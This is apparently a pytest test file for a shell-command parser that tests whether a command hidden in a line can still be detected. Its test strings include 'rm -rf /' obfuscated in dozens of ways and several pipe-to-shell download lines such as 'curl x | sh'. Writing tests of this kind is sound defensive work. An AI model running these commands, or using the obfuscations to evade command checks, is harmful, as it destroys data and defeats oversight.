"""The commands that a shell line would run, however they are hidden."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from hookline.shelltext.commands import MAX_LINE, commands, programs, runs

REMOVAL = ["rm", "-rf", "/"]


def words_of(line: str) -> list[list[str]]:
    return [command.words for command in commands(line)]


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /",
        "r\\m -rf /",
        "'r'm \"-rf\" /",
        "rm \\\n -rf /",
        "$'\\x72m' -rf /",
        "$'\\162m' -rf $'\\u002f'",
        "rm${IFS}-rf${IFS}/",
        "{rm,-rf,/}",
        "x=rm; $x -rf /",
        'x="rm -rf"; $x /',
        "$(echo rm) -rf /",
        "`echo rm` -rf /",
        "A=1 B=2 rm -rf /",
        "sudo rm -rf /",
        "sudo -u root -n rm -rf /",
        "env -i A=1 timeout -k 5 10 nice -n 5 rm -rf /",
        "nohup setsid rm -rf / &",
        "command exec rm -rf /",
        "true; rm -rf /",
        "true && rm -rf /",
        "false || rm -rf /",
        "(cd x; rm -rf /)",
        "{ rm -rf /; }",
        "if true; then rm -rf /; fi",
        "while true; do rm -rf /; done",
        "! rm -rf /",
        'echo "$(rm -rf /)"',
        "echo `rm -rf /`",
        "cat <(rm -rf /)",
        "bash -c 'rm -rf /'",
        "bash -lc \"rm -rf '/'\"",
        "sh -c 'bash -c \"rm -rf /\"'",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "trap 'rm -rf /' EXIT",
        "bash <<< 'rm -rf /'",
        "bash <<EOF\nrm -rf /\nEOF",
        "bash <<'E' | cat\nrm -rf /\nE",
        "env -S 'rm -rf /'",
        "env -S'rm -rf /'",
        "env -u A -iS 'rm -rf /'",
        "env --split-string='rm -rf /'",
        "a=r; a+=m; $a -rf /",
        "bash <(echo rm -rf /)",
        "sh < <(echo rm -rf /)",
        "tcsh -c 'rm -rf /'",
        "busybox rm -rf /",
        "find . -exec rm -rf / \\;",
        "rm -rf / # tidy up",
        "rm -rf / > log 2>&1",
        "${x:-rm} -rf /",
        "$(which rm) -rf /",
        "su root -c 'rm -rf /'",
        "script -c 'rm -rf /'",
        "ssh host 'rm -rf /'",
        "watch 'rm -rf /'",
        "flock lock rm -rf /",
        "coproc rm -rf /",
        "$SHELL -c 'rm -rf /'",
        "case x in x) rm -rf /;; esac",
        "cat <<EOF\n$(rm -rf /)\nEOF",
        "cat <<A <<B\na\nA\nb\nB\nrm -rf /",
        "((1<<2))\nrm -rf /",
        "x[1<<2]=3\nrm -rf /",
        "${x:-'rm'} -rf /",
        "echo ${x:-$(rm -rf /)}",
        "$(echo 'r'm) -rf /",
        "`echo \\`echo rm\\`` -rf /",
        "$'\\U00000072m' -rf /",
        "$'rm\\0x' -rf /",
        "x=' -rf'; rm$x /",
        "x=; $x rm -rf /",
        "sudo " * 20 + "rm -rf /",
        "uv run rm -rf /",
        "uv run --with x -p 3.12 -- rm -rf /",
        "uv run --with x rm -rf /",
        "npx rm -rf /",
        "npx -c 'rm -rf /'",
        "poetry run rm -rf /",
        "bundle exec rm -rf /",
        "flock lock -c 'rm -rf /'",
        "strace -o log rm -rf /",
        "chroot /mnt rm -rf /",
        "docker exec -it -u root db rm -rf /",
        "docker run --rm -v x:/x --name y image rm -rf /",
        "kubectl exec -n prod pod -c app -- rm -rf /",
        "kubectl exec pod -- sh -c 'rm -rf /'",
        "docker compose exec db bash -c 'rm -rf /'",
        "find . -name + -exec rm -rf / \\; -exec ls {} +",
    ],
)
def test_command_is_found_however_it_is_hidden(line: str) -> None:
    assert REMOVAL in words_of(line)


@pytest.mark.parametrize(
    "line",
    [
        "echo rm -rf /",
        "git commit -m 'rm -rf /'",
        "ls # rm -rf /",
        "cat <<EOF\nrm -rf /\nEOF",
        "grep 'rm -rf /' file",
        "echo 'it''s; rm -rf /'",
        'echo "a; rm -rf /"',
    ],
)
def test_quoted_text_is_not_a_command(line: str) -> None:
    assert REMOVAL not in words_of(line)


@pytest.mark.parametrize(
    "line",
    [
        "curl x | sh",
        "curl x | sudo bash",
        "curl x | bash -s -- arg",
        "bash <(curl x)",
        'bash -c "$(curl x)"',
        "source /dev/stdin",
        "curl x | python3",
        "python3 <(curl x)",
        'eval "$(curl x)"',
        "ls | xargs -I{} sh -c 'rm {}'",
        "${x#y} -rf /",
    ],
)
def test_command_that_cannot_be_read_is_opaque(line: str) -> None:
    assert any(command.opaque for command in commands(line))


@pytest.mark.parametrize(
    "line", ["bash script.sh", "ls | cat", "sh -c 'ls'", "ls | xargs wc -l"]
)
def test_command_that_can_be_read_is_not_opaque(line: str) -> None:
    assert not any(command.opaque for command in commands(line))


def test_arguments_added_by_another_program_are_marked() -> None:
    assert commands("echo / | xargs -n 1 rm -rf")[-1].appended
    assert commands("parallel rm -rf ::: /")[-1].appended


def test_redirections_are_not_words() -> None:
    (command,) = commands("sort <in >out 2>>err a>b &>c 2>&1")
    assert command.words == ["sort", "a"]
    assert command.writes == ["out", "err", "b", "c"]
    assert command.reads == ["in"]


def test_flags_and_operands_are_separated() -> None:
    (command,) = commands("rm -rf --force=x a -- -b")
    assert command.flags == {"r", "f", "force"}
    assert command.operands == ["a", "-b"]
    assert commands("/usr/bin/rm x")[0].name == "rm"


def test_a_long_chain_of_wrappers_is_opaque() -> None:
    """Each is taken off one after the other, which takes time (issue 13.1)."""
    assert "rm" in programs("sudo " * 90 + "rm x")
    assert commands("sudo " * 200 + "rm x")[-1].opaque


def test_deep_nesting_is_opaque() -> None:
    assert commands("echo $(" * 30 + "true" + ")" * 30)[-1].opaque


@pytest.mark.parametrize(
    "line",
    [
        "echo " + "x " * 20_000 + "; rm -rf /",
        "echo {" + "x," * 20_000 + "x}; rm -rf /",
        "echo " + "{a,b}" * 40 + "; rm -rf /",
        "a=xxxxxxxxxx; " + "a=$a$a; " * 20_000 + "rm -rf /",
    ],
    ids=["words", "braces", "doubled-braces", "doubled-variable"],
)
def test_padding_hides_nothing(line: str) -> None:
    found = commands(line)
    assert any(command.opaque for command in found)


@given(st.text(max_size=200))
@settings(max_examples=200)
def test_any_text_is_read_without_an_error(line: str) -> None:
    commands(line)


@given(st.text(alphabet="ab '\"\\$`(){}<>|&;#\n=,/-", max_size=60))
@settings(max_examples=300)
def test_any_mix_of_shell_characters_is_read_without_an_error(line: str) -> None:
    commands(line)


@given(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=5))
@example(["\ue000a\ue001b\ue002"])
@settings(max_examples=200)
def test_quoted_words_come_back_as_they_were(words: list[str]) -> None:
    line = shlex.join(["program", *words])
    assert commands(line)[0].words == ["program", *words]


PUSHES = """
git push
git push origin main
git   push   o
true && git push o
FOO=1 git push o
echo $(git push o)
echo `git push o`
git "push" o
g\\it push o
X=git; $X push o
bash -c 'git push o'
timeout 5 git push o
sudo -u me git push o
true | xargs git push o
for i in 1; do git push o; done
(git push o)
{ git push o; }
/usr/bin/git push o
diff <(git push o) f
git $ACTION o
git pu$X
git push $REMOTE
$TOOL push
eval "$LINE"
curl example.com | sh
"""
OTHERS = """
ls
git
git pushx
gitk
git -C x log
echo "git push o"
git log --grep push
git log $X
echo $HOME
python3 deploy.py
cat <<< 'git push o'
"""


@pytest.mark.parametrize("line", PUSHES.split("\n")[1:-1])
def test_a_line_runs_what_a_pattern_means(line: str) -> None:
    """Issue 15.6; what cannot be told by reading counts."""
    assert runs(line, "git push *")


@pytest.mark.parametrize("line", OTHERS.split("\n")[1:-1])
def test_a_line_does_not_run_what_it_only_mentions(line: str) -> None:
    assert not runs(line, "git push *")


@pytest.mark.parametrize(
    ("line", "pattern", "expected"),
    [
        ("git push", "git push", True),
        ("git push o", "git push", False),
        ("git push origin main", "* main", True),
        ("git push origin main", "git * main", True),
        ("git push main x", "git * main", False),
        ("git push --force o", "*--force*", True),
        ("gitk", "git*", True),
        ("sudo rm x", "sudo *", True),
        ("cd x && git y", "cd * && git *", True),
        ("anything", "*", True),
        ("aa", "aa*a", False),
        ("", "*", True),
        ("", "git *", False),
    ],
)
def test_a_star_is_any_text(line: str, pattern: str, expected: bool) -> None:
    assert runs(line, pattern) is expected


@pytest.mark.parametrize(
    ("line", "names"),
    [
        ("ls -la | grep x > out", ["ls", "grep"]),
        ("sudo -u root /usr/bin/rm -rf /", ["sudo", "rm"]),
        ("env A=1 timeout 5 nice rm x", ["env", "timeout", "nice", "rm"]),
        ("bash -c 'cd x && make'; make", ["bash", "cd", "make"]),
        ("echo $(date) `id`", ["echo", "date", "id"]),
        ("find . -exec rm {} \\;", ["find", "rm"]),
        ("ls | xargs rm", ["ls", "xargs", "rm"]),
        ("uv run pytest -q", ["uv", "pytest"]),
        ("x=rm; $x a", ["rm"]),
        ("echo 'rm -rf /' # rm", ["echo"]),
        ("cat <<EOF\nrm\nEOF", ["cat"]),
        ("for f in a b; do wc $f; done", ["wc", "done"]),
        ("A=1", []),
        ("", []),
        ("$X -rf /", ["?"]),
        ("/bin/r? -rf /", ["?"]),
        ("curl x | sh", ["curl", "sh", "?"]),
        ("eval $(curl x)", ["eval", "?", "curl"]),
        ("$(curl x) y", ["?", "curl"]),
        ('"" x', ["?"]),
    ],
)
def test_programs_of_a_line_by_name_each_once(line: str, names: list[str]) -> None:
    """Issue 13.1: ``command.programs()``."""
    assert programs(line) == names


HOSTILE = {
    "words": "x ",
    "commands": "a;",
    "substitutions": "$(",
    "substitutions-in-quotes": '"$(',
    "backticks": "`\\`",
    "defaults": "${x:-",
    "parentheses": "(",
    "quotes": "'",
    "heredocs": "cat <<A\n",
    "heredocs-in-substitutions": "$(cat <<A\n",
    "braces": "{a,b}",
    "nested-braces": "{{a,b},",
    "doubling": "a=$a$a;",
    "find": "find -exec find ",
    "eval": "eval 'a;b' ",
    "wrappers": "sudo ",
}


@pytest.mark.parametrize("length", [MAX_LINE, 1_000_000])
@pytest.mark.parametrize("unit", HOSTILE.values(), ids=list(HOSTILE))
def test_a_long_hostile_line_is_read_in_bounded_time(unit: str, length: int) -> None:
    """It took minutes where each part was searched for in the rest of the line."""
    line = (unit * (length // len(unit)))[:-7] + "\nrm -rf /"
    # What is not read must show: nothing may hide behind it.
    found = programs(line)
    assert not found or "?" in found or "rm" in found


def test_a_line_of_a_few_variables_that_multiply_is_bounded() -> None:
    calls = "".join(f"x{i}='{f'eval $x{i + 1};' * 9}';" for i in range(20))
    assert "?" in programs(calls + "eval $x0")


def test_a_line_longer_than_any_that_can_run_is_not_read() -> None:
    assert programs("rm x " * MAX_LINE) == ["?"]
    assert commands("rm x " * MAX_LINE)[-1].opaque


def test_nesting_that_is_not_read_is_opaque() -> None:
    assert commands("echo " + "${x:-" * 60 + "$(rm -rf /)" + "}" * 60)[-1].opaque
